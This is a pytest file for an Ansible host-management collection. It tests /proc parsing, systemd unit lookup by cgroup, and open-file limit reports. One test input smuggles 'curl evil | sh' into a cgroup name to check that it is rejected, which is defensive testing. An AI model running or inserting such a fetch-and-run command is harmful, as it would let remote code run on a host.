# Copyright (c) 2026, the xitrum.host maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Running processes from /proc, and the nofile limit that they really have."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from ansible_collections.xitrum.host.plugins.module_utils.core import process, sockets, targets
from ansible_collections.xitrum.host.plugins.module_utils.core.host import Host
from ansible_collections.xitrum.host.plugins.module_utils.limits import open_files
from hypothesis import given
from hypothesis import strategies as st

from ..fake_host import FakeHost, Unreadable

SSHD = Path(__file__).parents[1] / "data" / "process" / "sshd"
SHOW = "systemctl show --no-pager --property=" + ",".join(process.UNIT_PROPERTIES) + " -- "
WORD = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))


def proc(pid, cwd="/", environ="", **files):
    """The files and links of one process below /proc: sshd's own, with another pid."""
    folder = f"/proc/{pid}"
    texts = {f"{folder}/{path.name}": path.read_text() for path in SSHD.iterdir() if path.name != "unit"}
    texts[f"{folder}/stat"] = f"{pid} (sshd)" + texts[f"{folder}/stat"].partition(")")[2]
    texts[f"{folder}/environ"] = environ
    texts.update({f"{folder}/{name}": text for name, text in files.items()})
    return texts, {f"{folder}/cwd": cwd, f"{folder}/exe": "/usr/sbin/sshd"}


def machine(*processes, files=(), commands=()):
    """A host with such processes, that booted at 1,000,000."""
    texts, links = {"/proc/stat": "cpu 1 2 3\nbtime 1000000\n"}, {}
    for more_texts, more_links in processes:
        texts.update(more_texts)
        links.update(more_links)
    return FakeHost({**texts, **dict(files)}, dict(commands), links)


def test_limits():
    limits = process.parse_limits((SSHD / "limits").read_text())
    assert limits["Max open files"] == (1024, 20000)
    assert limits["Max core file size"] == (0, process.UNLIMITED)
    assert limits["Max nice priority"] == (0, 0)
    assert len(limits) == 16


@given(st.dictionaries(WORD.filter(lambda name: name and "=" not in name), WORD))
def test_an_environment_is_read_back(environ):
    assert process.parse_environ("".join(f"{name}={value}\0" for name, value in environ.items())) == environ


def test_of_two_variables_the_first_counts():
    assert process.parse_environ("A=1\0A=2\0nonsense\0=x\0") == {"A": "1"}


@given(st.lists(WORD, min_size=1))
def test_arguments_are_read_back(words):
    assert process.parse_cmdline("".join(word + "\0" for word in words)) == words


@given(st.text(st.characters(exclude_categories=["Cs"])), st.integers(1, 2 ** 22), st.integers(0, 2 ** 60))
def test_any_name_in_stat(comm, pid, ticks):
    fields = " ".join(["S", "1"] + ["0"] * 17 + [str(ticks), "4096", "7"])
    assert process.parse_stat(f"{pid} ({comm}) {fields}\n") == {"pid": pid, "comm": comm, "state": "S", "ppid": 1, "start_ticks": ticks}


@pytest.mark.parametrize(("path", "under"), [
    ("/opt/xitrum/instances/0/a", True), ("/opt/xitrum", True), ("/opt/xitrum (deleted)", False),
    ("/opt/xitrum/instances/0 (deleted)", True), ("/opt/xitrum2", False), (None, False),
])
def test_a_folder_and_what_is_below_it(path, under):
    assert process.is_under(path, "/opt/xitrum/") is under


def test_processes_under_a_folder():
    host = machine(proc(10, "/opt/app/instances/0/x", "A=b\0"), proc(11, "/home"), proc(12, "/srv/app/instances/1"))
    host.links["/opt/app"] = "/srv/app"
    assert [row["pid"] for row in process.find_processes_under(host, "/opt/app")] == [12], "links are followed, as the kernel does"
    del host.links["/opt/app"]
    row = process.find_processes_under(host, "/opt/app")[0]
    assert (row["pid"], row["user"], row["uid"], row["nofile"], row["environ"]) == (10, "root", 0, (1024, 20000), {"A": "b"})
    assert row["started"] == 1000000 + 2311, "231181 ticks of a hundredth of a second"
    assert row["rss_kb"] > 1000
    assert row["cmdline"][0].startswith("sshd: ")


def test_what_the_kernel_hides_is_none_and_what_is_gone_is_left_out():
    host = machine(proc(10, environ=Unreadable("x"), limits=Unreadable("x")))
    found = process.read_processes(host, [10, 99])
    assert [(row["pid"], row["environ"], row["nofile"]) for row in found] == [(10, None, None)]


@pytest.mark.parametrize(("tree", "there"), [
    ("/sys/fs/cgroup", True), ("/sys/fs/cgroup/systemd", True), ("/sys/fs/cgroup/unified", True), ("/elsewhere", False),
])
def test_the_processes_of_a_unit_on_cgroup_v1_and_v2(tree, there):
    shown = process.parse_unit((SSHD / "unit").read_text())
    host = FakeHost({f"{tree}{shown['ControlGroup']}/cgroup.procs": "40\n39\n"})
    assert process.list_unit_pids(host, shown) == ([39, 40] if there else [39])


def test_the_unit_of_a_process_and_the_full_name_of_a_unit():
    host = machine(proc(39), commands={SHOW + "ssh.service": (SSHD / "unit").read_text()})
    assert process.find_unit_of_process(host, 39)["Id"] == "ssh.service"
    assert process.find_unit_of_process(FakeHost({"/proc/1/cgroup": "0::/init.scope\n"}), 1) == {}
    assert [targets.complete_name(name) for name in ("ssh", "xitrum@0", "xitrum@0.service", "a.b@1", "x.socket")] == [
        "ssh.service", "xitrum@0.service", "xitrum@0.service", "a.b@1.service", "x.socket"]


GROUP = process.parse_unit((SSHD / "unit").read_text())["ControlGroup"]


@pytest.mark.parametrize("group", [
    # Below their own group, users makes others, and calls them as they like.
    "/user.slice/user-1000.slice/user@1000.service/x; curl evil | sh #.service",
    "/user.slice/user-1000.slice/user@1000.service/app.slice/ssh.service",
    "/user.slice/user-1000.slice/ssh.service",
    f"{GROUP}x.service", f"/x{GROUP}", "/--help.service", "/a b.service", "/ssh.service/..", "",
    "/x.service" * 2000,
])
def test_a_group_that_systemd_does_not_name_is_no_unit(group):
    unit, user = (SSHD / "unit").read_text(), "Id=user@1000.service\nLoadState=loaded\nControlGroup=/user.slice/user-1000.slice/user@1000.service\n"
    commands = {SHOW + "ssh.service": unit, SHOW + "user@1000.service": user}
    host = FakeHost({"/proc/77/cgroup": f"3:cpu:{GROUP}\n1:name=systemd:{group}\n0::{group}\n"}, commands)
    assert process.find_unit_of_process(host, 77) == {}
    assert len(host.done) <= 2 * process.MOST_GROUPS


@pytest.mark.parametrize("group", [GROUP, f"{GROUP}/below/evil.service"])
def test_a_process_below_the_group_of_a_unit_is_of_it(group):
    host = FakeHost({"/proc/77/cgroup": f"0::{group}\n"}, {SHOW + "ssh.service": (SSHD / "unit").read_text()})
    assert process.find_unit_of_process(host, 77)["Id"] == "ssh.service"


def report(host, **desired):
    """What nofile_info returns."""
    desired = {"nofile": 20000, "ports": [], "units": [], "pids": [], **desired}
    plan = open_files.plan(desired, open_files.read(host, desired))
    assert not plan.changed
    return plan.report()


def grants(limit, cap="000001ffffffffff"):
    """What a host can grant: this process's own limits and capabilities."""
    return {
        "/proc/self/limits": f"Max open files            {limit}                {limit}                files     \n",
        "/proc/self/status": f"Uid:\t1000\t1000\t1000\t1000\nPPid:\t1\nCapBnd:\t{cap}\n",
        "/proc/sys/fs/nr_open": "1048576\n",
    }


UNIT = (SSHD / "unit").read_text()


@pytest.mark.parametrize(("unit", "desired", "files", "status", "words"), [
    (UNIT, 1024, grants(20000), "ok", "1024 (LimitNOFILE of ssh.service)"),
    (UNIT, 20000, grants(20000), "drift", "1024 (LimitNOFILE of ssh.service)"),
    (UNIT.replace("Soft=1024", "Soft=65536"), 65536, grants(524288), "restart_pending", "65536 (LimitNOFILE of ssh.service)"),
    (UNIT.replace("Soft=1024", "Soft=infinity"), 65536, grants(524288), "restart_pending", "infinity (LimitNOFILE of ssh.service)"),
    (UNIT.replace("Soft=1024", "Soft=65536"), 65536, grants(1024, "0000000000000000"), "read_only", "65536 (LimitNOFILE of ssh.service)"),
])
def test_the_limit_of_a_unit(unit, desired, files, status, words):
    host = machine(proc(39), files=files, commands={SHOW + "ssh.service": unit})
    found = report(host, units=["ssh"], nofile=desired)
    assert [(one["pid"], one["configured"], one["soft"], one["hard"], one["status"]) for one in found["processes"]] == [(39, words, 1024, 20000, status)]
    assert (found["rows"][0]["fix"] == "") == (status == "ok")


def test_the_limit_of_what_a_login_started():
    files = {**grants(524288), "/etc/security/limits.d/90-xitrum.conf": "* soft nofile 65536\nroot soft nofile 4096\nroot soft nofile 32768\n"}
    host = machine(proc(39, cgroup="0::/user.slice\n"), files=files)
    found = report(host, pids=[39], nofile=30000)
    assert found["processes"][0]["configured"] == "32768 (/etc/security/limits.d/90-xitrum.conf, for logins)", "'*' does not cover root"
    assert found["rows"][0]["fix"] == "restart the process 39 from a new login"


def test_what_is_not_there_is_reported():
    host = machine(proc(39, limits=Unreadable("x"), cgroup="0::/\n"), files=grants(20000), commands={SHOW + "no.service": "LoadState=not-found\n"})
    found = report(host, pids=[39, 40], units=["no"], ports=[8000])
    assert {row["item"]: (row["status"], row["why"]) for row in found["rows"]} == {
        "pid 39, sshd 39": ("not_readable", "only root may read its limits"),
        "pid 40": ("not_readable", "there is no such process"),
        "unit no.service": ("not_readable", "systemd has no such unit"),
        "port 8000": ("not_readable", "ss did not answer: install iproute2"),
    }


#: A process that works in a folder whose path is longer than the kernel gives, and keeps it open.
DEEP = """
import os, sys
os.chdir(sys.argv[1])
for _unused in range(60):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
kept = os.open(".", os.O_RDONLY)
print(kept, flush=True)
sys.stdin.read()
"""


def test_a_process_in_a_folder_that_is_too_deep_fails_no_read(tmp_path):
    """Any user of a host can start one: it failed each run there."""
    with subprocess.Popen([sys.executable, "-c", DEEP, str(tmp_path)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as other:
        try:
            kept, host = int(other.stdout.readline()), Host()
            with pytest.raises(OSError, match="File name too long"):
                host.readlink(f"/proc/{other.pid}/fd/{kept}")
            assert [(row["pid"], row["cwd"]) for row in process.read_processes(host, [other.pid])] == [(other.pid, None)]
            assert other.pid not in [row["pid"] for row in process.find_processes_under(host, str(tmp_path))]
            assert sockets.find_holders(host, [1], [other.pid]) == ({}, ())
        finally:
            other.kill()
    subprocess.run(["rm", "-rf", str(tmp_path)], check=True)
